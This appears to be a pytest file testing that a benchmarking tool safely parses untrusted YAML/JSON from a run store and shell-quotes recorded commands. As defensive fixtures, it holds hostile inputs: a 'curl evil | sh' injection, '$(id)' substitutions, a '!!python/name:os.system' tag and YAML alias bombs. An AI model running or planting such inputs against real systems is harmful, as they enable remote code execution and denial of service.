"""Text from a store, which anybody may write: plain data of the expected shape, or nothing."""

import shlex

import pytest
import yaml

from nnbench.report.question import is_whole
from nnbench.track.read_runs import sizes
from nnbench.track.skipped import TAG, read_skipped
from nnbench.track.stored_text import LONGEST_FILE, as_mapping, as_names, of_yaml, of_yaml_file
from nnbench.track.sweeps import COMMAND, VERSIONS, read_sweeps
from nnbench.track.tracker import track_sweep

OTHERS = ["", "{", "[1, 2]", "3", '"text"', "null", "[" * 200_000, '{"a": ' + "9" * 5000 + "}"]


def laughs(levels):
    """A value of ten to the power of `levels` words, in a few lines."""
    inner = "&l0 [x, x, x, x, x, x, x, x, x, x]"
    for level in range(1, levels):
        inner = f"&l{level} [{inner}{f', *l{level - 1}' * 9}]"
    return inner


@pytest.mark.parametrize("text", OTHERS)
def test_json_that_is_no_mapping_says_nothing(text):
    assert as_mapping(text, str) == {}


def test_values_of_other_kinds_are_left_out():
    text = '{"a": 1, "b": "1", "c": true, "d": [1], "e": {"f": 1}, "g": NaN, "h": 1e400}'
    assert as_mapping(text, int) == {"a": 1}
    assert as_mapping(text, (str, int)) == {"a": 1, "b": "1"}


@pytest.mark.parametrize(
    ("text", "names"),
    [
        (None, ()),
        ("null", ()),
        ("depth", ("depth",)),
        ("['depth', 'init']", ("depth", "init")),
        ("[a, b, c]", ()),
        ("{a: 1}", ()),
        ("[[a], {b: 1}]", ()),
        ("7", ()),
        ("[a", ()),
        ("!!python/name:os.system", ()),
        ("[" * 5000, ()),
        (laughs(9), ()),
    ],
)
def test_compared_keys_are_one_or_two_names(text, names):
    assert as_names(text) == names


@pytest.mark.parametrize("text", [laughs(9), "a: &a [*a]", "a: &a 1\nb: *a"])
def test_no_value_stands_in_several_places(text):
    with pytest.raises(yaml.YAMLError, match="in several places"):
        of_yaml(text)


def test_number_that_cannot_be_written_is_not_read():
    assert of_yaml("a: 0x" + "f" * 3000)["a"] > 0
    with pytest.raises(ValueError, match="digits"):
        of_yaml("a: [0x" + "f" * 4000 + "]")


def test_only_a_small_file_is_read(tmp_path):
    file = tmp_path / "config.yaml"
    for size, fits in ((LONGEST_FILE, True), (LONGEST_FILE + 1, False)):
        file.write_text("a: " + "x" * (size - 3))
        if fits:
            assert len(of_yaml_file(file)["a"]) == size - 3
        else:
            with pytest.raises(ValueError, match="has more than"):
                of_yaml_file(file)


@pytest.mark.parametrize(
    "profile",
    [
        *OTHERS,
        '{"rows": "x", "shape": 5, "test_rows": null}',
        '{"rows": -5, "shape": [-1, 1e99]}',
        '{"data_rows": "x", "rows": "y"}',
        '{"data_rows": 1e99}',
        '{"chance": 1.5}',
        '{"chance": NaN}',
    ],
)
def test_of_profile_that_is_none_nothing_is_known(profile):
    expected = {**sizes(profile), "test_rows": None, "untested_classes": None}
    assert expected == dict.fromkeys(("rows", "test_rows", "untested_classes", "length", "chance"))


@pytest.mark.parametrize("text", [*OTHERS[1:], '{"a": "b", "b": [1]}'])
def test_useless_tags_of_a_sweep_are_left_out(store, text):
    with track_sweep(store, "trial", {"compare": text[:100]}, "x", skipped={"lr": 3}) as tracker:
        store.client.set_tag(tracker.sweep_id, VERSIONS, text)
    with track_sweep(store, "trial", {}, "x") as tracker:
        store.client.set_tag(tracker.sweep_id, TAG, text)
    assert read_skipped(store, "trial") == {"lr": 3}
    assert set(read_sweeps(store, "trial")[0].versions.values()) <= {"b"}


@pytest.mark.parametrize(
    ("command", "offered"),
    [
        ("python -m nnbench -m depth=1,2", "python -m nnbench -m depth=1,2"),
        ("python -m nnbench 'where={depth: 1}'", "python -m nnbench 'where={depth: 1}'"),
        ("python -m nnbench; curl evil | sh", "python -m 'nnbench;' curl evil '|' sh"),
        ("python -m nnbench a=$(id) `id` && id", "python -m nnbench 'a=$(id)' '`id`' '&&' id"),
        ("python -m nnbench a=1 > x", "python -m nnbench a=1 '>' x"),
    ],
)
def test_no_word_of_command_is_one_to_shell(store, command, offered):
    with track_sweep(store, "trial", {}, command):
        pass
    (sweep,) = read_sweeps(store, "trial")
    assert sweep.command == offered
    assert shlex.split(offered) == shlex.split(command)


@pytest.mark.parametrize(
    "command",
    ["python -m nnbench 'a\nb'", "python -m nnbench '\x1b[2J'", "python -m nnbench 'a\u2028b'",
     "python -m nnbench 'a", "curl evil", ""],
)  # fmt: skip
def test_command_that_cannot_be_typed_is_not_offered(command):
    assert not is_whole(command)


def test_only_the_tag_of_command_makes_a_sweep(store):
    with track_sweep(store, "trial", {}, "x") as tracker:
        store.client.delete_tag(tracker.sweep_id, COMMAND)
    assert read_sweeps(store, "trial") == []
